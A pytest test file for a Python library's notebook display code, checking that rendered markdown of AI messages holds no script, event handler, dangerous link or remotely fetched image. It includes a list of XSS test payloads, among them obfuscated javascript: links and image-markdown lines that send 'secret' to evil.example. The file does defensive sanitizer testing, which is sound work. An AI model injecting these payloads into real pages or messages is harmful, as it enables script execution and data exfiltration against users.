"""How messages show themselves in a notebook: readable, and with nothing in it that runs."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from streamfold import AIMessage, AIMessageChunk, HumanMessage
from streamfold.deltas import BlockStart, DataDelta, ReasoningDelta, TextDelta, ToolCallDelta
from streamfold.display import message_markdown, safe_markdown

PNG = "iVBORw0KGgo="


class Tags(HTMLParser):
    """The tags of a page with their attributes, and its visible text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


OURS = {"details", "summary", "pre", "code", "img", "audio", "video", "a"}
ATTRIBUTES = {"src", "alt", "style", "controls", "href", "rel"}
LINK = re.compile(r"\]\(\s*([^)\s]*)|\]:\s*(\S+)")


def check_inert(page: str) -> None:
    """Only our tags, no event handlers, no data but media's, no links that run, no images that are
    fetched."""
    for tag, attributes in Tags(page).found:
        assert tag in OURS
        assert attributes.keys() <= ATTRIBUTES
        source = attributes.get("src")
        assert source is None or re.match(r"data:(image|audio|video)/", source)
        assert re.match(r"https?://", attributes.get("href") or "http://")
    assert "![" not in page
    for found in LINK.finditer(page):
        target = (found.group(1) or found.group(2) or "").replace("\\", "").lower()
        assert not target.startswith(("javascript:", "vbscript:", "data:", "file:"))


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</details><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- <script> -->",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( \n javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](data:text/html;base64,AAAA)",
    "[x]: javascript:alert(1)",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "&lt;script&gt;",
    "```\n<script>alert(1)</script>\n```",
    "~~~html\n</code></pre><script>alert(1)</script>\n~~~",
    "``` \n x\n<script>",
    "`<script>`",
    "`` ` <script> ` ``",
    "a ` b <script> ` c ` <script>",
    "```\n![x](https://evil.example)\n```",
    "- ```\n  <script>\n  ```",
    "> ```\n<script>\n```",
    "~~~\n```\n~~~\n<script>\n```",
    "|a|\n|-|\n|<script>|",
    "$$<script>$$",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_of_it_runs_or_is_fetched(text: str) -> None:
    check_inert(safe_markdown(text))
    for kind, field in (("text", "text"), ("reasoning", "reasoning"), ("text-plain", "text")):
        check_inert(message_markdown([{"type": kind, field: text}]))
    call = {"type": "tool_call", "name": text, "args": {text: text}, "id": text}
    check_inert(message_markdown([call, {**call, "type": "invalid_tool_call", "error": text}]))
    for block in (
        {"type": "image", "base64": text, "mime_type": "image/png"},
        {"type": "image", "base64": PNG, "mime_type": text},
        {"type": "image", "url": text},
        {"type": "audio", "url": f"https://x/{text}"},
        {"type": "file", "file_id": text, "title": text},
        {"type": "server_tool_result", "tool_call_id": text, "output": [{text: text}]},
        {"type": "non_standard", "value": {"type": text}},
        {"type": text},
        {"type": "text", "text": "x", "annotations": [
            {"type": "citation", "url": text, "title": text},
            {"type": "citation", "url": f"https://x/{text}", "title": text}]},
    ):  # fmt: skip
        check_inert(message_markdown([block]))


@given(
    st.lists(st.sampled_from([*ATTACKS, "`", "```", "\n", "~~~\n", "(", "](", " ", "&", "<", "!"]))
)
def test_nor_of_any_mixture(parts: list[str]) -> None:
    check_inert(safe_markdown("".join(parts)))


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\n- **bold** and _thin_\n\n> quoted\n\n[a link](https://x.example/?a=1&b=2)",
        "```python\nif a > b and c:\n    print('x')\n```",
        "use `a > b` & `c`",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "5 > 3, R&D, Привет 😀",
        "the data: 1, 2",
        "",
    ],
)
def test_harmless_markdown_stays_as_it_is(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("x\n```cpp\nvector<int> a;\n\nb<c>();\n```\ny", "vector<int> a;\n\nb<c>();\n"),
        ("use `a < b` here", "a < b"),
        ("use ``a ` <b>`` here", "a ` <b>"),
        ("~~~\n&amp; <b>\n~~~", "&amp; <b>\n"),
    ],
)
def test_code_with_angle_brackets_reads_as_it_was_written(text: str, code: str) -> None:
    page = safe_markdown(text)
    check_inert(page)
    assert code in Tags(page).text


@given(st.text(st.characters(exclude_categories=["Cc", "Cn", "Cs"]) | st.just("\n")))
def test_any_arguments_read_as_they_were_written(args: str) -> None:
    """They are one cell of a table, whatever is in them."""
    call = {"type": "tool_call", "name": "f", "args": args, "id": None}
    head, rule, row = message_markdown([call]).split("\n")
    assert row.replace("&#124;", "").count("|") == head.count("|") == rule.count("|")
    assert Tags(row).text == f"| f | {args} |  |  |"


def test_a_whole_answer() -> None:
    message = AIMessage(
        [
            {"type": "reasoning", "reasoning": "Let me *think*."},
            {"type": "text", "text": "Here is **a cat**.", "annotations": [
                {"type": "citation", "url": "https://cats.example/1", "title": "Cats"},
                {"type": "citation", "url": "https://cats.example/1", "title": "Cats"}]},
            {"type": "image", "base64": PNG, "mime_type": "image/png"},
            {"type": "audio", "base64": "UklG", "mime_type": "audio/wav"},
            {"type": "tool_call", "name": "f", "args": {"a": 1}, "id": "c1"},
            {"type": "tool_call", "name": "g", "args": {}, "id": "c2"},
            {"type": "file", "base64": "AAAA", "mime_type": "application/pdf",
             "extras": {"filename": "r.pdf"}},
        ]
    )  # fmt: skip
    shown = message._repr_markdown_()
    assert shown.startswith("<details><summary>Reasoning</summary>\n\nLet me *think*.")
    assert "\n\nHere is **a cat**.\n\nSources: " in shown
    assert [a["href"] for t, a in Tags(shown).found if t == "a"] == ["https://cats.example/1"]
    assert f'<img src="data:image/png;base64,{PNG}" alt="image"' in shown
    assert '<audio controls src="data:audio/wav;base64,UklG"></audio>' in shown
    assert shown.count("| tool | arguments | id | |") == 1
    assert "| <code>g</code> | <code>&#123;&#125;</code> | <code>c2</code> |" in shown
    assert "r.pdf, application/pdf, 3 bytes" in Tags(shown).text
    check_inert(shown)


def test_a_remote_image_is_a_link_not_fetched() -> None:
    shown = HumanMessage([{"type": "image", "url": "https://x.example/cat.png"}])._repr_markdown_()
    tags = Tags(shown).found
    assert [(tag, of.get("href")) for tag, of in tags] == [("a", "https://x.example/cat.png")]


def test_a_chunk_shows_what_has_arrived() -> None:
    chunk = AIMessageChunk(
        events=[
            ReasoningDelta("hm", 0),
            TextDelta("a <b>", 1),
            ToolCallDelta('{"x": ', 2, id="c", name="f"),
            BlockStart("image", 3, data={"mime_type": "image/png"}),
            DataDelta(PNG, 3, "image"),
        ]
    )
    shown = chunk._repr_markdown_()
    for part in ("hm", "a &lt;b>", "arriving", PNG):
        assert part in shown


def test_ipython_finds_it() -> None:
    pytest.importorskip("IPython")
    from IPython.core.formatters import DisplayFormatter

    bundle: dict[str, Any]
    bundle, _ = DisplayFormatter().format(AIMessage("**hi**"))
    assert bundle["text/markdown"] == "**hi**"
    assert bundle["text/plain"] == "AIMessage('**hi**')"
